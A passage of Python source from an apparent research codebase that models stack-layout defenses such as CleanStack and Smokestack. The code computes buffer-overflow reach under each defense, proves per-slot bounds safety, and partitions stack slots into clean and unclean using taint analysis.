    names = unique_slot_names(descriptor.allocations)
    out: List[str] = []
    for allocation in descriptor.allocations:
        alloca = allocation.alloca
        if alloca is None or not alloca.var_name:
            continue
        if alloca.var_name.startswith("__"):
            continue
        if alloca.allocated_type.is_array():
            out.append(names[id(allocation)])
    return out


def defense_layouts(
    function: Function,
    defense: str,
    *,
    samples: int = 64,
    seed: int = 0,
    module: Optional[Module] = None,
) -> List[FrameLayout]:
    """The family of concrete layouts ``defense`` can deploy for ``function``.

    For randomized schemes the family is sampled (seeded, deterministic);
    ``certain`` facts computed from a sample are conservative in the safe
    direction — a slot must survive every sampled layout to stay certain.
    ``module`` feeds the interprocedural taint seeding of the cleanstack
    partition; other families ignore it.
    """
    descriptor = discover_function(function)
    allocations = list(descriptor.allocations)
    if defense in ("none", "aslr", "shadowstack"):
        # Shadow stacks isolate the metadata band, not the data slots:
        # the attacker-visible data layout is exactly the baseline.
        return [baseline_layout(function)]
    if defense == "canary":
        return [baseline_layout(function, canary=True)]
    if defense == "padding":
        if descriptor.total_unpermuted_size() <= MIN_FRAME_SIZE:
            return [baseline_layout(function)]
        layouts = []
        for pad in PAD_CHOICES:
            padded = [StackAllocation(PAD_SLOT_NAME, pad, 8)] + allocations
            layouts.append(
                FrameLayout(
                    function.name,
                    allocation_slots(padded, canary=False),
                    has_canary=False,
                )
            )
        return layouts
    if defense == "static-permute":
        if len(allocations) < 2:
            return [baseline_layout(function)]
        names = unique_slot_names(allocations)
        table = generate_table(allocations, max_rows=samples, seed=seed)
        layouts = []
        for row in table.rows:
            order = sorted(range(len(allocations)), key=row.__getitem__)
            ordered = [allocations[i] for i in reversed(order)]
            layouts.append(
                FrameLayout(
                    function.name,
                    allocation_slots(ordered, canary=False, names=names),
                    has_canary=False,
                )
            )
        return layouts
    if defense == "cleanstack":
        return cleanstack_layouts(
            function, module, samples=samples, seed=seed
        )
    if defense == "smokestack":
        return smokestack_layouts(function, samples=samples, seed=seed)
    raise ValueError(
        f"unknown defense '{defense}'; modeled: {MODELED_DEFENSES}"
    )


def cleanstack_region_slots(
    function: Function,
    module: Optional[Module] = None,
    *,
    partition=None,
) -> Tuple[Tuple[Slot, ...], Tuple[Slot, ...]]:
    """The two halves of a cleanstack frame, each in its own coordinates.

    Clean slots are laid out exactly as the VM's main-stack cursor does
    (frame top = 0, first slot below the return cookie, unclean indices
    skipped); unclean slots are laid out by the unclean-stack cursor
    relative to *its* region top (= 0, no cookie/canary band — metadata
    never moves to the unclean stack).  ``partition`` may be supplied to
    reuse a computed :class:`~repro.analysis.partition.FramePartition`.
    """
    from repro.analysis.partition import partition_function

    if partition is None:
        partition = partition_function(function, module)
    statics = function.static_allocas()
    unclean_allocas = {
        statics[index]
        for index in partition.unclean_indices
        if index < len(statics)
    }
    descriptor = discover_function(function)
    allocations = list(descriptor.allocations)
    names = unique_slot_names(allocations)
    main_slots: List[Slot] = []
    unsafe_slots: List[Slot] = []
    cursor = -8
    u_cursor = 0
    for allocation in allocations:
        relocated = (
            allocation.alloca is not None
            and allocation.alloca in unclean_allocas
        )
        if relocated:
            u_cursor -= allocation.size
            u_cursor = _align_down(u_cursor, allocation.align)
            unsafe_slots.append(
                Slot(names[id(allocation)], u_cursor, allocation.size)
            )
        else:
            cursor -= allocation.size
            cursor = _align_down(cursor, allocation.align)
            main_slots.append(
                Slot(names[id(allocation)], cursor, allocation.size)
            )
    return tuple(main_slots), tuple(unsafe_slots)


def cleanstack_layouts(
    function: Function,
    module: Optional[Module] = None,
    *,
    samples: int = 64,
    seed: int = 0,
    partition=None,
    deltas: Optional[Sequence[int]] = None,
) -> List[FrameLayout]:
    """Taint-partitioned dual-stack layouts.

    One layout per sampled displacement ``delta`` of the unclean region:
    clean slots keep their exact main-stack offsets in every member,
    while each unclean slot sits at ``u_lo + delta`` (``u_lo`` relative
    to the unclean-region top).  The sampled deltas stand in for the
    load-time draw — any byte-distance fact that survives the whole
    family is delta-invariant, i.e. purely intra-region, which is the
    defense's guarantee.  Pass an explicit ``deltas`` (e.g. one observed
    from a VM probe) to anchor the family for byte-exact cross-checking.
    """
    main_slots, unsafe_slots = cleanstack_region_slots(
        function, module, partition=partition
    )
    if not unsafe_slots:
        # Fully clean frame: single exact layout, nothing relocated.
        return [FrameLayout(function.name, main_slots, has_canary=False)]
    if deltas is None:
        rng = random.Random(seed ^ 0xC1EA)
        count = max(1, min(8, samples))
        picked = set()
        while len(picked) < count:
            picked.add(-rng.randrange(16 * 1024, 64 * 1024, 16))
        deltas = sorted(picked)
    layouts = []
    for delta in deltas:
        slots = main_slots + tuple(
            Slot(slot.name, slot.lo + delta, slot.size)
            for slot in unsafe_slots
        )
        layouts.append(
            FrameLayout(function.name, slots, has_canary=False)
        )
    return layouts


def smokestack_layouts(
    function: Function, *, samples: int = 64, seed: int = 0
) -> List[FrameLayout]:
    """Per-invocation layouts: permutation-table rows in the unified frame.

    Row offsets grow *upward* from the unified frame's base (the
    instrumentation GEPs ``frame + offset``), so a larger row offset is a
    higher address.  The fnid slot participates in the permutation just
    as the real pass arranges (it replaces the stack protector).
    """
    descriptor = discover_function(function)
    allocations = list(descriptor.allocations)
    if not allocations:
        return [baseline_layout(function)]
    config = SmokestackConfig()
    if config.fnid_checks:
        allocations.append(
            StackAllocation(FNID_SLOT_NAME, 8, 8, index=len(allocations))
        )
    names = unique_slot_names(allocations)
    table = generate_table(allocations, max_rows=samples, seed=seed)
    # The unified frame: one 16-aligned char array below the cookie.
    frame_lo = _align_down(-8 - table.total_size, 16)
    layouts = []
    for row in table.rows:
        slots = tuple(
            Slot(names[id(allocation)], frame_lo + offset, allocation.size)
            for allocation, offset in zip(allocations, row)
        )
        layouts.append(FrameLayout(function.name, slots, has_canary=False))
    return layouts


def reach_under_defense(
    function: Function,
    buffer: str,
    defense: str,
    *,
    samples: int = 64,
    seed: int = 0,
    module: Optional[Module] = None,
) -> BufferReach:
    """certain/possible intra-frame reach of ``buffer`` under ``defense``."""
    layouts = defense_layouts(
        function, defense, samples=samples, seed=seed, module=module
    )
    certain: Optional[FrozenSet[str]] = None
    possible: FrozenSet[str] = frozenset()
    cookie_certain = True
    for layout in layouts:
        reach = intra_frame_reach(layout, buffer)
        certain = (
            reach.corrupted if certain is None else certain & reach.corrupted
        )
        possible = possible | reach.corrupted
        cookie_certain = cookie_certain and reach.cookie
    return BufferReach(
        function=function.name,
        buffer=buffer,
        defense=defense,
        certain=certain or frozenset(),
        possible=possible,
        cookie_certain=cookie_certain,
        layouts=len(layouts),
    )


def analyze_module_reach(
    module: Module,
    defenses: Sequence[str] = MODELED_DEFENSES,
    *,
    samples: int = 64,
    seed: int = 0,
) -> List[BufferReach]:
    """Reach summaries for every buffer × defense in the module."""
    out: List[BufferReach] = []
    for function in module.functions.values():
        for buffer in buffer_names(function):
            for defense in defenses:
                out.append(
                    reach_under_defense(
                        function,
                        buffer,
                        defense,
                        samples=samples,
                        seed=seed,
                        module=module,
                    )
                )
    return out
