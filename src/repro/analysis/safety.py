"""Bounds-safety proofs: per-slot PROVEN_SAFE / UNSAFE / UNKNOWN verdicts.

Smokestack pays its permutation cost on every call, even in functions
where no store can ever leave its slot.  This module supplies the sound
side of the CleanStack-style bargain: combine the interval abstract
interpretation (:mod:`repro.analysis.intervals`) with an escape/alias
check and interprocedural write summaries, and emit per-slot verdicts
the hardening pipeline may act on:

``PROVEN_SAFE``
    Every ``store``/``gep``/write-builtin that can reach the slot's
    frame stays in bounds on all paths, the slot's address never
    escapes, and no callee can overflow into the frame.  Skipping
    randomization for a frame of proven slots is sound.
``UNSAFE``
    A reachable write can exceed its object's bounds *and* attacker
    input influences the overflowing extent (directly, or the function
    sits on a tainted input path) — the DOP-relevant case.
``UNKNOWN``
    Neither proof succeeded: unbounded-but-untainted writes, escaped
    addresses, VLAs, wild pointers with no attacker influence.

The prover is deliberately one-sided: only ``PROVEN_SAFE`` carries a
soundness obligation (enforced mechanically by the ``safety`` fuzz
oracle and :func:`repro.analysis.crosscheck.crosscheck_safety`);
UNSAFE-vs-UNKNOWN is a classification heuristic for reporting.

Demotion rules (all conservative in the safe direction):

* a breached buffer demotes every sibling slot — layout permutation can
  place any sibling adjacent to the buffer;
* a breach that can cross the frame (unbounded, or ≥ 8 bytes past the
  object) demotes every slot of every *transitive caller* — the caller
  frames sit above the victim frame;
* wild writes (unresolvable root) and out-of-bounds global writes
  demote the whole function and its transitive callers;
* an escaped slot address or a VLA in the frame caps the slot at
  UNKNOWN.
"""

from __future__ import annotations

from typing import Dict, FrozenSet, List, NamedTuple, Optional, Sequence, Set, Tuple

from repro.analysis.intervals import (
    POS_INF,
    TOP,
    UNREACHABLE,
    Interval,
    IntervalAnalysis,
    READONLY_BUILTINS,
    WRITE_BUILTINS,
    builtin_write_extent,
    resolve_pointer,
)
from repro.analysis.reach import (
    MODELED_DEFENSES,
    defense_layouts,
    overflow_reach,
    unique_slot_names,
)
from repro.analysis.taintflow import (
    TaintFlowAnalysis,
    UNKNOWN_MEMORY,
    attacker_param_indices,
    mem,
    pointer_root,
)
from repro.core.allocations import discover_function
from repro.ir.instructions import Alloca, Call, Cast, Instruction, Store
from repro.ir.module import Function, Module
from repro.ir.values import Argument, GlobalVariable, Value

PROVEN_SAFE = "PROVEN_SAFE"
UNSAFE = "UNSAFE"
UNKNOWN = "UNKNOWN"

_RANK = {PROVEN_SAFE: 0, UNKNOWN: 1, UNSAFE: 2}


def _worse(a: str, b: str) -> str:
    return a if _RANK[a] >= _RANK[b] else b


class WriteEvent(NamedTuple):
    """One memory write the prover must account for."""

    function: str
    instruction: Instruction
    root: Optional[Value]  # Alloca | GlobalVariable | Argument | None
    offset: Interval  # byte offset of the write start, relative to root
    extent: Interval  # bytes written from that offset
    tainted: bool  # attacker influences where/how much is written
    kind: str

    def end(self) -> float:
        """Largest byte index past ``root`` the write can touch."""
        if self.offset.is_empty() or self.extent.is_empty():
            return 0
        if self.offset.lo < 0:
            return POS_INF  # writing below the object start hits anything
        return self.offset.hi + self.extent.hi


class SlotSafety(NamedTuple):
    """The verdict for one stack slot."""

    function: str
    slot: str
    size: int
    verdict: str
    write_bound: Optional[int]  # max feasible write end (bytes); None = ∞
    reasons: Tuple[str, ...]


class FunctionSafety(NamedTuple):
    name: str
    slots: Tuple[SlotSafety, ...]
    vla: bool
    proven: bool  # every slot PROVEN_SAFE and no VLAs: safe to skip

    def slot(self, name: str) -> Optional[SlotSafety]:
        for record in self.slots:
            if record.slot == name:
                return record
        return None


class SafetyReport:
    """Module-wide verdicts plus the call-graph context behind them."""

    def __init__(
        self,
        functions: Dict[str, FunctionSafety],
        escape_verdicts: Dict[str, str],
        transitive_callers: Dict[str, FrozenSet[str]],
    ):
        self.functions = functions
        #: function -> UNSAFE/UNKNOWN when its writes can cross the frame
        self.escape_verdicts = escape_verdicts
        self.transitive_callers = transitive_callers

    def function(self, name: str) -> Optional[FunctionSafety]:
        return self.functions.get(name)

    def verdict(self, function: str, slot: str) -> Optional[str]:
        safety = self.functions.get(function)
        if safety is None:
            return None
        record = safety.slot(slot)
        return record.verdict if record is not None else None

    def proven_functions(self) -> List[str]:
        return [name for name, fs in self.functions.items() if fs.proven]

    def counts(self) -> Dict[str, int]:
        out = {PROVEN_SAFE: 0, UNSAFE: 0, UNKNOWN: 0}
        for safety in self.functions.values():
            for record in safety.slots:
                out[record.verdict] += 1
        return out

    def to_dict(self) -> dict:
        return {
            "proven_functions": self.proven_functions(),
            "slot_counts": self.counts(),
            "functions": [
                {
                    "function": fs.name,
                    "proven": fs.proven,
                    "vla": fs.vla,
                    "slots": [
                        {
                            "slot": s.slot,
                            "size": s.size,
                            "verdict": s.verdict,
                            "write_bound": s.write_bound,
                            "reasons": list(s.reasons),
                        }
                        for s in fs.slots
                    ],
                }
                for fs in self.functions.values()
            ],
        }


# ---------------------------------------------------------------------------
# Per-function fact collection.
# ---------------------------------------------------------------------------


class _CallThrough(NamedTuple):
    instruction: Instruction
    callee: str
    arg_index: int
    root: Optional[Value]
    offset: Interval


class _FunctionFacts:
    def __init__(self, function: Function):
        self.function = function
        self.events: List[WriteEvent] = []
        self.call_throughs: List[_CallThrough] = []
        self.escaped_allocas: Set[Alloca] = set()
        self.escaped_params: Set[int] = set()
        self.callees: Set[str] = set()
        self.vla = False
        self.tainted_sinks = False


def _escape_root(facts: _FunctionFacts, root: Optional[Value]) -> None:
    if isinstance(root, Alloca):
        facts.escaped_allocas.add(root)
    elif isinstance(root, Argument):
        facts.escaped_params.add(root.index)


def _builtin_write_tainted(name: str, call: Call, tstate: frozenset) -> bool:
    """Does the attacker influence the builtin's write extent or target?"""
    args = call.args
    if args and args[0] in tstate:
        return True  # tainted destination pointer
    if name == "input_read_unbounded":
        return True  # extent == attacker's input length
    if name == "strcpy_":
        if len(args) < 2:
            return True
        source = args[1]
        return (
            source in tstate
            or mem(pointer_root(source)) in tstate
            or UNKNOWN_MEMORY in tstate
        )
    if name == "input_read" and len(args) >= 2:
        return args[1] in tstate
    if name in ("strncpy_", "memcpy_", "memset_") and len(args) >= 3:
        return args[2] in tstate
    if name == "sstrncpy_" and len(args) >= 3:
        return args[2] in tstate
    if name == "snprintf_sim" and len(args) >= 2:
        return args[1] in tstate
    return False


def _collect_facts(
    function: Function,
    module: Module,
    tainted_params: Sequence[int],
) -> Tuple[_FunctionFacts, IntervalAnalysis, TaintFlowAnalysis]:
    intervals = IntervalAnalysis(function)
    taint = TaintFlowAnalysis(function, module, tainted_params=tainted_params)
    facts = _FunctionFacts(function)
    facts.vla = bool(discover_function(function).vla_allocas)
    facts.tainted_sinks = bool(taint.sinks)
    module_functions = set(module.functions) if module is not None else set()

    for block in function.blocks:
        pairs = zip(intervals.states_in(block), taint.result.states_in(block))
        for (inst, istate), (_, tstate) in pairs:
            if istate is UNREACHABLE:
                continue  # statically dead: no concrete execution gets here

            def evaluate(value, _state=istate):
                return intervals.evaluate(value, _state)

            if isinstance(inst, Store):
                root, offset = resolve_pointer(inst.pointer, evaluate)
                size = inst.value.ctype.size()
                facts.events.append(
                    WriteEvent(
                        function.name,
                        inst,
                        root,
                        offset,
                        Interval(size, size),
                        inst.pointer in tstate,
                        "store",
                    )
                )
                if inst.value.ctype.is_pointer():
                    # Storing an address into a *local static* slot (the
                    # O0 parameter spill pattern) is not an escape: any
                    # later write through the reloaded pointer resolves
                    # to an unknown root and is handled as a wild write.
                    # Stores into globals/unknown memory do escape.
                    dest, _ = resolve_pointer(inst.pointer, evaluate)
                    if not (isinstance(dest, Alloca) and dest.is_static()):
                        vroot, _ = resolve_pointer(inst.value, evaluate)
                        _escape_root(facts, vroot)
            elif isinstance(inst, Cast) and inst.kind == "ptrtoint":
                vroot, _ = resolve_pointer(inst.value, evaluate)
                _escape_root(facts, vroot)
            elif isinstance(inst, Call):
                name = inst.callee_name()
                if name in module_functions:
                    facts.callees.add(name)
                    for arg_index, arg in enumerate(inst.args):
                        if not arg.ctype.is_pointer():
                            continue
                        root, offset = resolve_pointer(arg, evaluate)
                        facts.call_throughs.append(
                            _CallThrough(inst, name, arg_index, root, offset)
                        )
                elif name in WRITE_BUILTINS:
                    extent = builtin_write_extent(name, inst, evaluate)
                    if inst.args:
                        root, offset = resolve_pointer(inst.args[0], evaluate)
                    else:
                        root, offset = None, TOP
                    facts.events.append(
                        WriteEvent(
                            function.name,
                            inst,
                            root,
                            offset,
                            extent if extent is not None else TOP,
                            _builtin_write_tainted(name, inst, tstate),
                            name,
                        )
                    )
                elif name in READONLY_BUILTINS:
                    pass
                else:
                    # Unknown builtin: assume it may write anywhere and
                    # capture every pointer argument.
                    for arg in inst.args:
                        if arg.ctype.is_pointer():
                            root, _ = resolve_pointer(arg, evaluate)
                            _escape_root(facts, root)
                    facts.events.append(
                        WriteEvent(
                            function.name,
                            inst,
                            None,
                            TOP,
                            TOP,
                            False,
                            f"builtin:{name}",
                        )
                    )
    return facts, intervals, taint


# ---------------------------------------------------------------------------
# Interprocedural parameter-write summaries.
# ---------------------------------------------------------------------------


class ParamSummary(NamedTuple):
    writes: bool
    end: float  # max bytes past the argument pointer; POS_INF = unbounded
    tainted: bool
    escapes: bool


NO_WRITE = ParamSummary(False, 0, False, False)


def _param_summaries(
    facts_by_fn: Dict[str, _FunctionFacts],
) -> Dict[str, Dict[int, ParamSummary]]:
    """Fixpoint over the call graph: what each function does through each
    pointer parameter.  Summaries only grow; a round limit plus a forced
    TOP keeps unbounded recursion (f passes p+8 to itself) sound."""
    summaries: Dict[str, Dict[int, ParamSummary]] = {}
    for name, facts in facts_by_fn.items():
        summaries[name] = {
            param.index: NO_WRITE
            for param in facts.function.params
            if param.ctype.is_pointer()
        }

    limit = 2 * len(facts_by_fn) + 4
    changed = True
    rounds = 0
    while changed and rounds < limit:
        changed = False
        rounds += 1
        for name, facts in facts_by_fn.items():
            for index in summaries[name]:
                old = summaries[name][index]
                writes, end, tainted = old.writes, old.end, old.tainted
                escapes = old.escapes or index in facts.escaped_params
                for event in facts.events:
                    if (
                        isinstance(event.root, Argument)
                        and event.root.index == index
                    ):
                        writes = True
                        end = max(end, event.end())
                        tainted = tainted or event.tainted
                for through in facts.call_throughs:
                    if not (
                        isinstance(through.root, Argument)
                        and through.root.index == index
                    ):
                        continue
                    callee = summaries.get(through.callee, {}).get(
                        through.arg_index
                    )
                    if callee is None:
                        continue
                    escapes = escapes or callee.escapes
                    if callee.writes:
                        writes = True
                        tainted = tainted or callee.tainted
                        if through.offset.lo < 0:
                            end = POS_INF
                        else:
                            end = max(end, through.offset.hi + callee.end)
                new = ParamSummary(writes, end, tainted, escapes)
                if new != old:
                    summaries[name][index] = new
                    changed = True
    if changed:
        # Still growing after the round limit: force the summaries that
        # write to "unbounded" so the result stays sound.
        for per_fn in summaries.values():
            for index, summary in per_fn.items():
                if summary.writes:
                    per_fn[index] = summary._replace(end=POS_INF)
    return summaries


# ---------------------------------------------------------------------------
# The module-level prover.
# ---------------------------------------------------------------------------


class _SlotRecord:
    __slots__ = ("name", "size", "verdict", "bound", "reasons")

    def __init__(self, name: str, size: int):
        self.name = name
        self.size = size
        self.verdict = PROVEN_SAFE
        self.bound: float = 0
        self.reasons: List[str] = []

    def demote(self, verdict: str, reason: str) -> None:
        if _RANK[verdict] > _RANK[self.verdict]:
            self.verdict = verdict
        if reason not in self.reasons:
            self.reasons.append(reason)


def analyze_module_safety(module: Module) -> SafetyReport:
    """Run the full prover over every function of ``module``."""
    param_map = attacker_param_indices(module)
    facts_by_fn: Dict[str, _FunctionFacts] = {}
    for function in module.functions.values():
        facts, _, _ = _collect_facts(
            function, module, param_map.get(function.name, ())
        )
        facts_by_fn[function.name] = facts
    summaries = _param_summaries(facts_by_fn)

    # Transitive callers (victim frame -> every frame above it).
    direct_callers: Dict[str, Set[str]] = {name: set() for name in facts_by_fn}
    for name, facts in facts_by_fn.items():
        for callee in facts.callees:
            if callee in direct_callers:
                direct_callers[callee].add(name)
    transitive_callers: Dict[str, FrozenSet[str]] = {}
    for name in facts_by_fn:
        seen: Set[str] = set()
        stack = list(direct_callers[name])
        while stack:
            caller = stack.pop()
            if caller in seen:
                continue
            seen.add(caller)
            stack.extend(direct_callers[caller])
        transitive_callers[name] = frozenset(seen)

    records_by_fn: Dict[str, Dict[str, _SlotRecord]] = {}
    escape_verdicts: Dict[str, str] = {}

    for name, facts in facts_by_fn.items():
        function = facts.function
        descriptor = discover_function(function)
        names = unique_slot_names(descriptor.allocations)
        records: Dict[str, _SlotRecord] = {}
        by_alloca: Dict[int, _SlotRecord] = {}
        for allocation in descriptor.allocations:
            record = _SlotRecord(names[id(allocation)], allocation.size)
            records[record.name] = record
            if allocation.alloca is not None:
                by_alloca[id(allocation.alloca)] = record
        records_by_fn[name] = records

        frame_breach: Optional[str] = None
        frame_escape: Optional[str] = None

        def breach_verdict(event: WriteEvent) -> str:
            if event.tainted:
                return UNSAFE
            if event.end() == POS_INF and facts.tainted_sinks:
                # The extent is not data-tainted but the function sits on
                # a tainted input path and the write is unbounded — the
                # librelp pattern (snprintf_sim with a wrapped offset).
                return UNSAFE
            return UNKNOWN

        # Argument-rooted writes materialised from callee summaries.
        events = list(facts.events)
        for through in facts.call_throughs:
            summary = summaries.get(through.callee, {}).get(through.arg_index)
            if summary is None:
                continue
            if summary.escapes:
                _escape_root(facts, through.root)
            if summary.writes:
                events.append(
                    WriteEvent(
                        name,
                        through.instruction,
                        through.root,
                        through.offset,
                        Interval(0, summary.end),
                        summary.tainted,
                        f"call:{through.callee}",
                    )
                )

        for event in events:
            root = event.root
            end = event.end()
            if root is None:
                verdict = (
                    UNSAFE
                    if event.tainted or facts.tainted_sinks
                    else UNKNOWN
                )
                reason = f"wild write ({event.kind}): unresolvable target"
                frame_breach = _worse(frame_breach or verdict, verdict)
                frame_escape = _worse(frame_escape or verdict, verdict)
                for record in records.values():
                    record.demote(verdict, reason)
                continue
            if isinstance(root, GlobalVariable):
                size = root.value_type.size()
                if end > size:
                    verdict = breach_verdict(event)
                    reason = (
                        f"global '{root.name}' overflow ({event.kind}) may "
                        f"run into the stack"
                    )
                    frame_breach = _worse(frame_breach or verdict, verdict)
                    frame_escape = _worse(frame_escape or verdict, verdict)
                    for record in records.values():
                        record.demote(verdict, reason)
                continue
            if isinstance(root, Argument):
                continue  # accounted to the caller via the summaries
            if isinstance(root, Alloca):
                record = by_alloca.get(id(root))
                if record is None:
                    # dynamic (VLA) alloca: size unknown statically
                    verdict = breach_verdict(event)
                    reason = f"write into VLA ({event.kind}): size unknown"
                    frame_breach = _worse(frame_breach or verdict, verdict)
                    if end == POS_INF:
                        frame_escape = _worse(
                            frame_escape or verdict, verdict
                        )
                    for other in records.values():
                        other.demote(verdict, reason)
                    continue
                record.bound = max(record.bound, end)
                if end > record.size:
                    verdict = breach_verdict(event)
                    bound_text = "unbounded" if end == POS_INF else f"{end}B"
                    record.demote(
                        verdict,
                        f"{event.kind} may write {bound_text} into "
                        f"{record.size}B slot",
                    )
                    frame_breach = _worse(frame_breach or verdict, verdict)
                    if end == POS_INF or end >= record.size + 8:
                        frame_escape = _worse(
                            frame_escape or verdict, verdict
                        )

        for alloca in facts.escaped_allocas:
            record = by_alloca.get(id(alloca))
            if record is not None:
                record.demote(UNKNOWN, "address escapes the frame")

        if facts.vla:
            for record in records.values():
                record.demote(UNKNOWN, "frame contains a VLA")

        if frame_breach is not None:
            for record in records.values():
                record.demote(
                    frame_breach,
                    "sibling slot breached: permutation can place any "
                    "neighbour next to the buffer",
                )
        if frame_escape is not None:
            escape_verdicts[name] = frame_escape

    # Cross-frame demotion: a frame-escaping breach in F reaches every
    # transitive caller's frame.
    for name, verdict in escape_verdicts.items():
        for caller in transitive_callers[name]:
            for record in records_by_fn.get(caller, {}).values():
                record.demote(
                    verdict,
                    f"callee '{name}' can overflow past its own frame",
                )

    functions: Dict[str, FunctionSafety] = {}
    for name, facts in facts_by_fn.items():
        records = records_by_fn[name]
        slots = tuple(
            SlotSafety(
                name,
                record.name,
                record.size,
                record.verdict,
                None if record.bound == POS_INF else int(record.bound),
                tuple(record.reasons),
            )
            for record in records.values()
        )
        proven = not facts.vla and all(
            record.verdict == PROVEN_SAFE for record in records.values()
        )
        functions[name] = FunctionSafety(name, slots, facts.vla, proven)
    return SafetyReport(functions, escape_verdicts, transitive_callers)


# ---------------------------------------------------------------------------
# Mechanical soundness gate: proofs vs. the reach model.
# ---------------------------------------------------------------------------


def proven_reach_conflicts(
    module: Module,
    report: Optional[SafetyReport] = None,
    *,
    samples: int = 16,
) -> List[str]:
    """PROVEN_SAFE slots that a statically-feasible overflow could reach.

    For every slot whose feasible write bound exceeds its size, replay
    the breach through the byte-exact reach model under *every* modeled
    defense and collect any PROVEN_SAFE slot inside a possible-reach
    set; unbounded breaches additionally indict proven slots in any
    transitive caller.  An empty return is the soundness gate.
    """
    if report is None:
        report = analyze_module_safety(module)
    conflicts: List[str] = []
    for name, safety in report.functions.items():
        function = module.functions.get(name)
        if function is None:
            continue
        proven = {s.slot for s in safety.slots if s.verdict == PROVEN_SAFE}
        for slot in safety.slots:
            if slot.write_bound is not None and slot.write_bound <= slot.size:
                continue
            for defense in MODELED_DEFENSES:
                for layout in defense_layouts(
                    function, defense, samples=samples, module=module
                ):
                    try:
                        base = layout.slot(slot.slot)
                    except Exception:
                        continue
                    length = (
                        slot.write_bound
                        if slot.write_bound is not None
                        else -base.lo
                    )
                    reach = overflow_reach(
                        layout, slot.slot, min(length, -base.lo)
                    )
                    hit = set(reach.corrupted) & proven
                    for victim in sorted(hit):
                        conflicts.append(
                            f"{name}: PROVEN_SAFE slot '{victim}' inside "
                            f"possible reach of '{slot.slot}' under "
                            f"'{defense}'"
                        )
            if slot.write_bound is None:
                for caller in report.transitive_callers.get(
                    name, frozenset()
                ):
                    caller_safety = report.functions.get(caller)
                    if caller_safety is None:
                        continue
                    for victim in caller_safety.slots:
                        if victim.verdict == PROVEN_SAFE:
                            conflicts.append(
                                f"{caller}: PROVEN_SAFE slot "
                                f"'{victim.slot}' in a transitive caller "
                                f"of '{name}' (unbounded breach)"
                            )
    return sorted(set(conflicts))
