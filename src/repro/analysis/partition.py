"""Clean/unclean partition of stack slots (the CleanStack split).

CleanStack's core idea is a *static* one: classify every stack object as
clean (provably never attacker-influenced) or unclean (tainted, or not
provably clean), and give the unclean objects their own stack so that an
overflow from an unclean buffer can never reach a clean slot.  This pass
derives that partition from the input-taint verdicts
:mod:`repro.analysis.taintflow` already computes:

* a slot is **unclean** when its storage token ``mem(alloca)`` becomes
  tainted on any path (attacker input can reach its bytes), or when its
  address escapes the frame (stored to memory, or passed to a callee
  whose memory behaviour the analysis does not model), or — the sound
  "tainted-if-unknown" default — when the function's dataflow state ever
  contains the unresolved-memory token, in which case *every* slot is
  demoted because the taint cannot be attributed;
* everything else is **clean**.

Soundness direction: over-approximating uncleanliness is always safe for
the defense (an extra slot on the unclean stack weakens nothing), while a
slot left clean that the attacker can in fact taint would break the
clean-stack guarantee — hence every "don't know" resolves to unclean.

Slots are identified by their index into ``function.static_allocas()``
(program order), the same order the VM's ``_push_frame`` walks, so the
partition can be handed verbatim to :class:`repro.vm.interpreter.Machine`
via its ``clean_partition`` argument.
"""

from __future__ import annotations

from typing import Dict, FrozenSet, Iterable, NamedTuple, Optional, Set, Tuple

from repro.analysis.taintflow import (
    COPY_BUILTINS,
    INPUT_BUILTINS,
    SEND_BUILTINS,
    TaintFlowAnalysis,
    UNKNOWN_MEMORY,
    attacker_param_indices,
    pointer_root,
)
from repro.ir.instructions import Alloca, Call, Store
from repro.ir.module import Function, Module

#: Builtins whose pointer arguments have fully modeled memory effects in
#: the taint transfer function; handing them an address is not an escape.
_MODELED_POINTER_BUILTINS = INPUT_BUILTINS | COPY_BUILTINS | SEND_BUILTINS


class FramePartition(NamedTuple):
    """The clean/unclean split of one function's frame."""

    function: str
    #: diagnostic labels of the unclean / clean slots, program order
    unclean: Tuple[str, ...]
    clean: Tuple[str, ...]
    #: indices into ``function.static_allocas()`` — what the VM consumes
    unclean_indices: FrozenSet[int]
    #: slot label -> why it was demoted to the unclean stack
    reasons: Dict[str, str]

    @property
    def split(self) -> bool:
        """Does this frame actually place anything on the unclean stack?"""
        return bool(self.unclean_indices)


def _slot_label(alloca: Alloca) -> str:
    return alloca.var_name or getattr(alloca, "name", None) or "<anon>"


def _escaped_allocas(
    function: Function, module: Optional[Module] = None
) -> Set[Alloca]:
    """Allocas whose address leaves the analysis's field of view.

    Two escape routes: the address is *stored* into memory (anything may
    load and write through it later), or it is passed to a call whose
    pointer behaviour the taint transfer function does not model — any
    module-internal callee (it may retain or write through the pointer
    beyond what interprocedural input-taint tracks) or an unknown
    builtin.
    """
    escaped: Set[Alloca] = set()
    for inst in function.instructions():
        if isinstance(inst, Store):
            root = pointer_root(inst.value)
            if isinstance(root, Alloca):
                escaped.add(root)
        elif isinstance(inst, Call):
            callee = inst.callee_name()
            if callee in _MODELED_POINTER_BUILTINS or callee in _KNOWN_SAFE:
                continue
            for arg in inst.args:
                ctype = getattr(arg, "ctype", None)
                if ctype is None or not ctype.is_pointer():
                    continue
                root = pointer_root(arg)
                if isinstance(root, Alloca):
                    escaped.add(root)
    return escaped


#: Builtins known to neither retain nor write through pointer arguments
#: (everything value-like: arithmetic helpers, exit, printing of scalars).
#: Conservative: anything not listed and not modeled counts as an escape.
_KNOWN_SAFE = frozenset({"print_int", "exit_", "abort_"})


def partition_function(
    function: Function,
    module: Optional[Module] = None,
    *,
    tainted_params: Iterable[int] = (),
    analysis: Optional[TaintFlowAnalysis] = None,
) -> FramePartition:
    """Partition one frame.  ``analysis`` may be supplied to share work."""
    if analysis is None:
        analysis = TaintFlowAnalysis(
            function,
            module,
            tainted_params=tainted_params,
            collect_sinks=False,
        )
    statics = function.static_allocas()

    tainted_roots: Set[Alloca] = set()
    unknown_memory = False
    for block in function.blocks:
        state = analysis.result.block_out.get(block, frozenset())
        for item in state:
            if (
                isinstance(item, tuple)
                and len(item) == 2
                and item[0] == "mem"
            ):
                if item == UNKNOWN_MEMORY:
                    unknown_memory = True
                elif isinstance(item[1], Alloca):
                    tainted_roots.add(item[1])
    escaped = _escaped_allocas(function, module)

    unclean_indices: Set[int] = set()
    unclean_labels = []
    clean_labels = []
    reasons: Dict[str, str] = {}
    for index, alloca in enumerate(statics):
        label = _slot_label(alloca)
        if alloca in tainted_roots:
            reason = "storage reachable by attacker input"
        elif alloca.allocated_type.is_array():
            # CleanStack's own coarse class: arrays are accessed through
            # computed addresses, so a bound the analysis cannot prove
            # (e.g. a pointee write through a parameter, which the
            # interprocedural model deliberately does not track) could
            # taint them — unclean by default.
            reason = "array object (unsafe-access class)"
        elif alloca in escaped:
            reason = "address escapes the frame"
        elif unknown_memory:
